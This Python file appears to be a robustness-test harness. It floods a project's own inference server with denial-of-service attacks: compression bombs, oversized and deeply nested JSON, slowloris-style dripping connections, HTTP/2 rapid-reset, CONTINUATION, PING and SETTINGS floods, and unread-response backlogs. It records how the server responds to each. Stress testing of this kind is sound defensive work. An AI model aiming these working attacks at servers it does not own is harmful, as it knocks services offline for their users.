"""Program of one attacker: HTTP_ADDRESS GRPC_ADDRESS MODEL SECONDS.

It sends every kind of hostile request in turn, at a bounded rate, and keeps connections open that
send nothing or a byte a second. Compressed bombs are built before the start, so that attacks cost
it little. It prints a line of JSON: the number of requests of each kind by outcome.
"""

import gzip
import http.client
import json
import os
import socket
import sys
import time
import zlib
from collections import Counter, defaultdict
from collections.abc import Callable, Iterator
from contextlib import closing, contextmanager, suppress
from dataclasses import dataclass, field

from pipeline.serve.proxy import http2

REQUESTS_A_SECOND = 10
NUM_IDLE, NUM_DRIPPING = 100, 30
"""Number of connections of each protocol that one attacker keeps open."""
ANSWER_SECONDS = 2.0
HUGE_BYTES = 600_000_000
_FLOOD = 3_000
"""Number of frames of a flood."""
_UNREAD = 50
"""Number of requests of a client that reads no answer."""
_BOMB = bytes(64 << 20)


@dataclass
class Attacker:
    """An attacker and the connections that it keeps open."""

    http_address: str
    grpc_address: str
    model: str
    open: list[tuple[str, socket.socket]] = field(default_factory=list)
    """Kind and connection."""

    def __post_init__(self) -> None:
        item = {"name": "item_id", "shape": [1, 1], "datatype": "INT64", "data": [1]}
        self.gzip_bomb, self.deflate_bomb = gzip.compress(_BOMB, 9), zlib.compress(_BOMB, 9)
        self.bodies: dict[str, tuple[bytes, dict[str, str]]] = {
            "gzip bomb": (self.gzip_bomb, {"Content-Encoding": "gzip"}),
            "deflate bomb": (self.deflate_bomb, {"Content-Encoding": "deflate"}),
            "shape of billions": (_json({"inputs": [item | {"shape": [1, 4 * 10**12]}]}), {}),
            "40,000 keys": (
                _json({"inputs": [item], "parameters": {f"key{i}": 0 for i in range(40_000)}}),
                {},
            ),
            "deep JSON": (b"[" * 100_000, {}),
            "JSON of empty objects": (b'{"inputs": [' + b"{}," * (2 << 20) + b"{}]}", {}),
            "JSON of numbers": (b'{"inputs": [' + b"1," * (3 << 20) + b"1]}", {}),
            "item id of 600 MB within": _binary(item),
        }
        self.messages = {
            "gRPC bomb": b"\1" + len(self.gzip_bomb).to_bytes(4, "big") + self.gzip_bomb,
            "gRPC of empty tensors": _message(b"\x2a\0" * (3 << 20)),
            "gRPC of an unknown model": _message(b"\x0a\x01x\x2a\0"),
        }

    def kinds(self) -> dict[str, Callable[[], str]]:
        """Return all kinds of attacks by name."""
        posts = {
            kind: lambda body=body, headers=headers: self.post(body, headers)
            for kind, (body, headers) in self.bodies.items()
        }
        calls = {
            kind: lambda message=message: self.call(message)
            for kind, message in self.messages.items()
        }
        return {
            **posts,
            **calls,
            "item id of 600 MB, HTTP": self.huge_body,
            "item id of 600 MB, gRPC": self.huge_message,
            "body of tiny chunks": self.tiny_chunks,
            "headers without end": self.endless_headers,
            "CONTINUATION without end": self.endless_continuation,
            "PING flood": lambda: self.flood(http2.write_frame(6, 0, 0, bytes(8))),
            "SETTINGS flood": lambda: self.flood(http2.write_frame(http2.SETTINGS, 0, 0, b"")),
            "rapid resets": self.rapid_resets,
            "unread answers, HTTP": self.unread_http,
            "unread answers, gRPC": self.unread_grpc,
        }

    def post(self, body: bytes, headers: dict[str, str]) -> str:
        """Send a whole request over HTTP."""
        with closing(
            http.client.HTTPConnection(self.http_address, timeout=ANSWER_SECONDS)
        ) as connection:
            connection.request("POST", f"/v2/models/{self.model}/infer", body, headers)
            return str(connection.getresponse().status)

    def call(self, message: bytes) -> str:
        """Send a whole message over gRPC."""
        with self.http2() as connection:
            self.send_headers(connection, 1)
            for start in range(0, len(message), 1 << 20):
                part = message[start : start + (1 << 20)]
                ends = start + len(part) == len(message)
                connection.sendall(http2.write_data(1, part, ends=ends))
            return answer_of(connection)

    @contextmanager
    def connect(self, address: str) -> Iterator[socket.socket]:
        """Yield a connection that is closed at the end."""
        host, port = address.split(":")
        with closing(socket.create_connection((host, int(port)), ANSWER_SECONDS)) as connection:
            yield connection

    @contextmanager
    def http2(self) -> Iterator[socket.socket]:
        """Yield a connection after the start of HTTP/2."""
        with self.connect(self.grpc_address) as connection:
            connection.sendall(http2.PREFACE + http2.write_frame(http2.SETTINGS, 0, 0, b""))
            yield connection

    def send_headers(self, connection: socket.socket, stream: int) -> None:
        """Begin a call of ModelInfer."""
        connection.sendall(http2.write_frame(1, http2.END_HEADERS, stream, _headers()))

    def huge_body(self) -> str:
        """Declare an item id of 600 MB and send it until the server refuses it."""
        with self.connect(self.http_address) as connection:
            connection.sendall(
                f"POST /v2/models/{self.model}/infer HTTP/1.1\r\nHost: x\r\n"
                f"Content-Length: {HUGE_BYTES}\r\n\r\n".encode()
            )
            send_slowly(connection, b"x" * (1 << 20))
            return answer_of(connection)

    def huge_message(self) -> str:
        """Declare an item id of 600 MB in a message, and send it until the server refuses it."""
        with self.http2() as connection:
            self.send_headers(connection, 1)
            start = b"\0" + HUGE_BYTES.to_bytes(4, "big")
            connection.sendall(http2.write_data(1, start, ends=False))
            send_slowly(connection, http2.write_data(1, bytes(16_384), ends=False))
            return answer_of(connection)

    def tiny_chunks(self) -> str:
        """Send a body in chunks of one byte."""
        with self.connect(self.http_address) as connection:
            start = f"POST /v2/models/{self.model}/infer HTTP/1.1\r\n"
            connection.sendall(f"{start}Transfer-Encoding: chunked\r\n\r\n".encode())
            connection.sendall(b"1\r\nx\r\n" * 200_000)
            return answer_of(connection)

    def endless_headers(self) -> str:
        """Send endless headers of HTTP/1.1."""
        with self.connect(self.http_address) as connection:
            connection.sendall(b"GET /v2 HTTP/1.1\r\n" + b"a: b\r\n" * 20_000)
            return answer_of(connection)

    def endless_continuation(self) -> str:
        """Send an endless block of headers in empty frames."""
        with self.http2() as connection:
            connection.sendall(http2.write_frame(1, 0, 1, b""))
            connection.sendall(http2.write_frame(http2.CONTINUATION, 0, 1, b"") * 20_000)
            return answer_of(connection)

    def flood(self, frame: bytes) -> str:
        """Send a frame many times and read nothing."""
        with self.http2() as connection:
            connection.sendall(frame * _FLOOD)
            return answer_of(connection)

    def rapid_resets(self) -> str:
        """Begin calls and cancel them at once."""
        with self.http2() as connection:
            for stream in range(1, 2 * _FLOOD, 2):
                self.send_headers(connection, stream)
                connection.sendall(http2.write_reset(stream))
            return answer_of(connection)

    def unread_http(self) -> str:
        """Request descriptions of the model over HTTP and read no answer."""
        host, port = self.http_address.split(":")
        connection = socket.create_connection((host, int(port)), ANSWER_SECONDS)
        self.keep("unread", connection)
        connection.sendall(
            f"GET /v2/models/{self.model}/config HTTP/1.1\r\n\r\n".encode() * _UNREAD
        )
        return "kept"

    def unread_grpc(self) -> str:
        """Request descriptions of the model over gRPC, with an empty window."""
        host, port = self.grpc_address.split(":")
        connection = socket.create_connection((host, int(port)), ANSWER_SECONDS)
        self.keep("unread", connection)
        setting = http2.INITIAL_WINDOW_SIZE.to_bytes(2, "big") + bytes(4)
        connection.sendall(http2.PREFACE + http2.write_frame(http2.SETTINGS, 0, 0, setting))
        for stream in range(1, 2 * _UNREAD, 2):
            self.send_headers(connection, stream)
            connection.sendall(http2.write_data(stream, _message(b""), ends=True))
        return "kept"

    def keep(self, kind: str, connection: socket.socket) -> None:
        """Keep a connection open, of those that read nothing only the last ones."""
        self.open.append((kind, connection))
        same = [pair for pair in self.open if pair[0] == kind]
        if len(same) > NUM_IDLE:
            self.open.remove(same[0])
            same[0][1].close()

    def hold(self) -> None:
        """Open connections that send nothing, or only the start of a request."""
        for address, start in (
            (self.http_address, b"POST /v2/models/x/infer HTTP/1.1\r\nX-Drip: "),
            (self.grpc_address, http2.PREFACE[:9]),
        ):
            host, port = address.split(":")
            for number in range(NUM_IDLE + NUM_DRIPPING):
                connection = socket.create_connection((host, int(port)), ANSWER_SECONDS)
                drips = number >= NUM_IDLE
                if drips:
                    connection.sendall(start)
                self.open.append(("dripping" if drips else "idle", connection))

    def drip(self) -> None:
        """Send a byte on each connection that drips."""
        for kind, connection in self.open:
            if kind == "dripping":
                with suppress(OSError):
                    connection.send(b"a")


def send_slowly(connection: socket.socket, part: bytes) -> None:
    """Send `part` repeatedly until the server closes the connection or a second has passed."""
    until = time.monotonic() + 1
    with suppress(OSError):
        while time.monotonic() < until:
            connection.sendall(part)
            time.sleep(0.02)


def answer_of(connection: socket.socket) -> str:
    """Return the HTTP status, `closed`, or `open` without an answer."""
    received = b""
    try:
        while part := connection.recv(65_536):
            received += part
            if received.startswith(b"HTTP/1.1 "):
                return received[9:12].decode("latin-1")
            if b"grpc-status" in received:
                return "status"
    except TimeoutError:
        return "open"
    except OSError:
        return "closed"
    return "closed"


def _json(value: object) -> bytes:
    return json.dumps(value).encode()


def _message(content: bytes) -> bytes:
    return b"\0" + len(content).to_bytes(4, "big") + content


def _binary(item: dict[str, object]) -> tuple[bytes, dict[str, str]]:
    """Return a small body whose tensor declares an item id of 600 MB."""
    values = HUGE_BYTES.to_bytes(4, "little") + b"x" * 20
    tensor = {key: item[key] for key in ("name", "shape")}
    tensor |= {"datatype": "BYTES", "parameters": {"binary_data_size": len(values)}}
    head = _json({"inputs": [tensor]})
    return head + values, {"Inference-Header-Content-Length": str(len(head))}


def _headers() -> bytes:
    """Return HPACK of a call of ModelInfer, as literals except for the method and the scheme."""
    fields = (
        (":path", "/inference.GRPCInferenceService/ModelInfer"),
        (":authority", "x"),
        ("content-type", "application/grpc"),
        ("grpc-encoding", "gzip"),
    )
    literals = (
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields
    )
    return b"\x83\x86" + b"".join(literals)


def main() -> None:
    """Attack until the time is over, then print the outcomes."""
    http_address, grpc_address, model, seconds = sys.argv[1:]
    os.nice(19)
    attacker = Attacker(http_address, grpc_address, model)
    counts: dict[str, Counter[str]] = defaultdict(Counter)
    print("ready", flush=True)  # noqa: T201
    sys.stdin.readline()
    attacker.hold()
    until = next_drip = time.monotonic() + float(seconds)
    next_drip = time.monotonic()
    while time.monotonic() < until:
        for kind, attack in attacker.kinds().items():
            began = time.monotonic()
            try:
                outcome = attack()
            except TimeoutError:
                outcome = "open"
            except (OSError, http.client.HTTPException):
                outcome = "closed"
            counts[kind][outcome] += 1
            if time.monotonic() >= next_drip:
                attacker.drip()
                next_drip = time.monotonic() + 1
            time.sleep(max(0.0, 1 / REQUESTS_A_SECOND - (time.monotonic() - began)))
    print(json.dumps(counts))  # noqa: T201


if __name__ == "__main__":
    main()
